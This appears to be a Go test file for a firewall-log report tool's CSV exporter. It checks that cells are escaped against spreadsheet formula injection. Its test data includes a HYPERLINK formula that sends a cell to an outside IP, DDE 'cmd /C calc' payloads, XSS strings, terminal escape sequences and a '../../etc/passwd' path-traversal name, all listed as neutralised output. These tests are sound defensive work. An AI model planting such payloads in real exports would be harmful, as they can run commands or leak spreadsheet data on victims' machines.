package csv

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"fwreport/report"
	"fwreport/report/reporttest"

	"github.com/gocarina/gocsv"
	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// folder collects files in memory.
type folder map[string]*file

type file struct {
	bytes.Buffer
	closed int
}

func (f *file) Close() error { f.closed++; return nil }

func (f folder) create(name string) (io.WriteCloser, error) {
	if f[name] != nil {
		return nil, errors.New("created twice")
	}
	f[name] = &file{}
	return f[name], nil
}

func write(t *testing.T, r *report.Report, opt Options) folder {
	t.Helper()
	f := folder{}
	if err := Write(f.create, r, opt); err != nil {
		t.Fatal(err)
	}
	for name, file := range f {
		if file.closed != 1 {
			t.Errorf("%s was closed %d times", name, file.closed)
		}
	}
	return f
}

// records reads a file as another program would.
func records(t *testing.T, f *file) [][]string {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(f.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func TestWrite(t *testing.T) {
	f := write(t, reporttest.Sample(), Options{})
	if got, want := slices.Sorted(maps.Keys(f)), []string{"denied.csv", "empty.csv", "inputs.csv", "prefixes.csv", "timeline.csv"}; !slices.Equal(got, want) {
		t.Errorf("files %v, want %v", got, want)
	}
	for name, want := range map[string]string{
		"timeline.csv": "time,denied,accepted,undetermined\n2026-03-01T00:00:00Z,4,1,0\n2026-03-01T01:00:00Z,0,1,0\n" +
			"2026-03-01T02:00:00Z,16,1,0\n2026-03-01T03:00:00Z,8,1,0\n",
		"empty.csv": "count,src,sport\n",
		"denied.csv": "count,src,sport,dport,proto,bytes,share,org,first,last,lasted,evidence_first\n" +
			"11000,203.0.113.7,6000,22,TCP,440000,0.9166666666666666,\"EXAMPLE-NET, Example Ltd.\"," +
			"2026-03-01T00:00:02Z,2026-03-07T23:59:58.25Z,1m30s,logs/kern.log.2.gz:1\n" +
			"1000,2001:db8:1234:5678:9abc:def0:1234:5678,,0,,0,0.0001,,,,,logs/=cap.pcap#3\n",
		"inputs.csv": "path,format,read,events,other,malformed,duplicates,outside,filtered,repeats,state,notes," +
			"compression,size,mtime,sha256,family,year_from,zone_from,first,last\n" +
			"logs/kern.log.2.gz,syslog,12000,11700,250,5,20,15,10,7,complete," +
			"\"the year is that of the file's time; malformed, bad port: 1; malformed, no SRC: 4; notices, kernel_lost: 2 (records lost: 40)\"," +
			"gzip,1234567,2026-03-08T06:25:01Z," + strings.Repeat("0123456789abcdef", 4) + ",kern.log,mtime,'--tz UTC,2026-03-01T00:00:02Z,2026-03-07T23:59:58.25Z\n" +
			"logs/=cap.pcap,pcap,360,300,50,0,0,10,0,0,incomplete,cut inside packet 361,,99,," + strings.Repeat("f", 64) + ",,,,,\n" +
			"'-,,0,0,0,0,0,0,0,0,skipped,skipped: no format took it,,,,,,,,,\n",
	} {
		if d := cmp.Diff(want, f[name].String()); d != "" {
			t.Errorf("%s: -want +got:\n%s", name, d)
		}
	}
	again := write(t, reporttest.Sample(), Options{})
	for name := range f {
		if !bytes.Equal(f[name].Bytes(), again[name].Bytes()) {
			t.Errorf("%s: other bytes the second time", name)
		}
	}
}

func TestAttacks(t *testing.T) {
	want := []string{
		`'=HYPERLINK("http://198.51.100.9/?"&A1,"click")`,
		`'+cmd|' /C calc'!A0`,
		`'@SUM(1+9)*cmd|' /C calc'!A0`,
		`'-1+1`,
		`'\x09=1+1`,
		`'\x0d=1+1`,
		`'\x0a=1+1`,
		`'\x00=1+1`,
		"'\uff1d1+1",
		"'\uff0b1",
		"'\uff0d1",
		"'\uff20x",
		"'  =1+1",
		"x;'=1+1",
		`\x1b[2J\x1b]0;owned\x07gone`,
		`\u009b31mred`,
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`caf\xe9 \xff\xfe`,
		`\u202efdp.exe`,
		`zero\u200bwidth\u2028line`,
		`_x0041_ and _x000D_`,
		`a "quoted", text\x0aof two lines`,
		`\x1b is four characters here`,
		"🔥 防火墙 e\u0301",
		reporttest.Long(),
	}
	file := write(t, reporttest.Sample(), Options{})["prefixes.csv"]
	got := records(t, file)[1:]
	if len(got) != len(want) {
		t.Fatalf("%d rows, want %d", len(got), len(want))
	}
	for i, w := range want {
		if got[i][1] != w || got[i][2] != w+":1" {
			t.Errorf("row %d: %q, %q, want %q", i, got[i][1], got[i][2], w)
		}
	}
	if n := strings.Count(file.String(), "\n"); n != len(want)+1 {
		t.Errorf("%d lines, want one a row and the header", n)
	}
	for _, c := range file.Bytes() {
		if c < ' ' && c != '\n' || c == 0x7f {
			t.Fatalf("the control %#x stands in the file", c)
		}
	}
}

func TestHarmless(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "eth0": "eth0", "DROP: ": "DROP: ", "a=b": "a=b", "a-b": "a-b", "x@y": "x@y", "1;2": "1;2", "::1": "::1",
		"=": "'=", " =": "' =", `"=1`: `'"=1`, `a;"=1`: `a;'"=1`, ";=1;=2": ";'=1;'=2", "a; =1": "a;' =1",
		"\u200b=1": `\u200b=1`, "\u00a0=1": `\u00a0=1`, "\ufeff=1": `\ufeff=1`, "\x0b=1": `\x0b=1`, "\xff=1": `\xff=1`, "a;\t=1": `a;'\x09=1`,
	} {
		if got := harmless(in); got != want {
			t.Errorf("harmless(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestOffice opens the files as a victim would, once with each separator, and
// looks for cells that have become formulas.
func TestOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice (soffice) is not installed")
	}
	if testing.Short() {
		t.Skip("starts LibreOffice: left out with -short")
	}
	convert := func(name, separator string, content []byte) string {
		dir := filepath.Join(t.TempDir(), name)
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		in := filepath.Join(dir, "in.csv")
		if err := os.WriteFile(in, content, 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(soffice, "-env:UserInstallation=file://"+dir+"/profile", "--headless",
			"--infilter=CSV:"+separator+",34,76,1,,0,false,true,false,false,false,-1,true", "--convert-to", "xlsx", "--outdir", dir, in)
		if msg, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice: %v\n%s", err, msg)
		}
		return filepath.Join(dir, "in.xlsx")
	}
	if got := formulas(t, convert("control", "44", []byte("a,b\n1,=1+1\n2,@SUM(1)\n"))); len(got) == 0 {
		t.Fatal("LibreOffice makes no formula even of =1+1: the test proves nothing")
	}
	b := write(t, reporttest.Sample(), Options{})["prefixes.csv"].Bytes()
	for name, separator := range map[string]string{"comma": "44", "semicolon": "59", "tab": "9"} {
		if got := formulas(t, convert(name, separator, b)); len(got) > 0 {
			t.Errorf("separator %s: cells have become formulas: %q", name, got)
		}
	}
}

// formulas lists the formulas of a workbook.
func formulas(t *testing.T, path string) []string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) < 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	var list []string
	for y, row := range rows {
		for x := range row {
			cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
				list = append(list, formula)
			}
		}
	}
	return list
}

func TestLimitAndBatches(t *testing.T) {
	for _, tt := range []struct{ rows, limit, want int }{
		{0, 0, 0}, {1, 0, 1}, {batchRows - 1, 0, batchRows - 1}, {batchRows, 0, batchRows}, {batchRows + 1, 0, batchRows + 1},
		{3 * batchRows, 0, 3 * batchRows}, {1000, 7, 7}, {5, 10, 5},
	} {
		got := records(t, write(t, reporttest.Big(tt.rows), Options{Limit: tt.limit})["big.csv"])
		if len(got) != tt.want+1 {
			t.Errorf("%d rows, limit %d: %d lines, want %d and a header", tt.rows, tt.limit, len(got), tt.want)
			continue
		}
		for i, row := range got[1:] {
			if want := report.CountOf(uint64(tt.rows - i)).String(); row[0] != want {
				t.Fatalf("%d rows: row %d begins with %s, want %s", tt.rows, i, row[0], want)
			}
		}
	}
}

func TestNames(t *testing.T) {
	n := names{}
	for _, tt := range [][2]string{
		{"inputs", "inputs.csv"}, {"denied", "denied.csv"}, {"Denied", "denied-2.csv"}, {"denied-2", "denied-2-2.csv"}, {"../../etc/passwd", "______etc_passwd.csv"},
		{"", "table.csv"}, {"INPUTS", "inputs-2.csv"}, {"con\x00", "con_.csv"}, {strings.Repeat("x", 300), strings.Repeat("x", 100) + ".csv"},
	} {
		if got := n.of(tt[0]); got != tt[1] {
			t.Errorf("%q becomes %q, want %q", tt[0], got, tt[1])
		}
	}
}

func TestForeignColumns(t *testing.T) {
	r := reporttest.Big(1)
	for i, id := range []string{`a,"b`, "omitempty", "-"} {
		r.Sections[0].Tables[0].Columns[i].ID = id
	}
	if got := write(t, r, Options{})["big.csv"].String(); got != "column_1,column_2,column_3\n1,192.0.2.1,DROP\n" {
		t.Errorf("got %q", got)
	}
}

var errFull = errors.New("no space left")

type full struct {
	room   int
	closed *int
}

func (f *full) Close() error { *f.closed++; return nil }
func (f *full) Write(b []byte) (int, error) {
	if f.room -= len(b); f.room < 0 {
		return 0, errFull
	}
	return len(b), nil
}

func TestErrors(t *testing.T) {
	for _, room := range []int{0, 2000, 20_000} {
		opened, closed := 0, 0
		err := Write(func(string) (io.WriteCloser, error) { opened++; return &full{room, &closed}, nil }, reporttest.Big(100_000), Options{})
		if !errors.Is(err, errFull) || opened != closed {
			t.Errorf("room %d: error %v, %d files opened, %d closed", room, err, opened, closed)
		}
	}
	err := Write(func(string) (io.WriteCloser, error) { return nil, errFull }, reporttest.Big(1), Options{})
	if !errors.Is(err, errFull) || !strings.Contains(err.Error(), "creating inputs.csv") {
		t.Errorf("error %v", err)
	}
	r := reporttest.Big(0)
	r.Sections[0].Tables[0].Rows = report.RowsOf([][]report.Value{{report.CountOf(1)}})
	if err := Write(folder{}.create, r, Options{}); err == nil || !strings.Contains(err.Error(), "big.csv: row 1: 1 cells for 3 columns") {
		t.Errorf("error %v", err)
	}
}

// wide is a report of one table with a column of every kind.
func wide(rows int) *report.Report {
	r := reporttest.Big(rows)
	t := &r.Sections[0].Tables[0]
	t.Columns = reporttest.DeniedColumns()
	at := reporttest.Time("2026-03-01T00:00:00Z")
	row := make([]report.Value, len(t.Columns))
	t.Rows = func(yield func([]report.Value) bool) {
		for i := range rows {
			copy(row, []report.Value{report.CountOf(uint64(rows - i)), report.AddressText("203.0.113.7"), report.PortOf(uint16(i)), report.PortOf(22),
				report.TextOf("TCP"), report.BytesOf(uint64(i)), report.RatioOf(0.25), report.TextOf("Example"), report.TimeOf(at),
				report.TimeOf(at + int64(i)), report.DurationOf(int64(time.Second)), report.EvidenceOf("kern.log:1")})
			if !yield(row) {
				return
			}
		}
	}
	return r
}

// BenchmarkRows compares the ways into gocsv that the package comment weighs.
func BenchmarkRows(b *testing.B) {
	const rows = 100_000
	table := wide(rows).Table("big")
	speed := func(b *testing.B) { b.ReportMetric(float64(b.N)*rows/b.Elapsed().Seconds(), "rows/s") }
	b.Run("batches", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := writeTable(io.Discard, table, 0); err != nil {
				b.Fatal(err)
			}
		}
		speed(b)
	})
	b.Run("channel", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := writeByChannel(io.Discard, table); err != nil {
				b.Fatal(err)
			}
		}
		speed(b)
	})
	b.Run("strings", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := writeStrings(io.Discard, table); err != nil {
				b.Fatal(err)
			}
		}
		speed(b)
	})
}

func writeByChannel(w io.Writer, t *report.Table) error {
	batches := []*batch{newBatch(t.Columns), newBatch(t.Columns)}
	rows := make(chan any, batchRows/2)
	go func() {
		defer close(rows)
		n := 0
		for row := range t.Rows { // two batches as a ring: a row's cells are reused long after it was written
			b := batches[n/batchRows%2]
			copy(b.values[n%batchRows], row)
			rows <- b.rows.Index(n % batchRows).Addr().Interface()
			n++
		}
	}()
	return gocsv.MarshalChan(rows, gocsv.NewSafeCSVWriter(csv.NewWriter(w)))
}

func writeStrings(w io.Writer, t *report.Table) error {
	out := gocsv.NewSafeCSVWriter(csv.NewWriter(w))
	fields := make([]string, len(t.Columns))
	for row := range t.Rows {
		for i := range row {
			fields[i], _ = Cell{&row[i]}.MarshalCSV()
		}
		if err := out.Write(fields); err != nil {
			return err
		}
	}
	out.Flush()
	return out.Error()
}
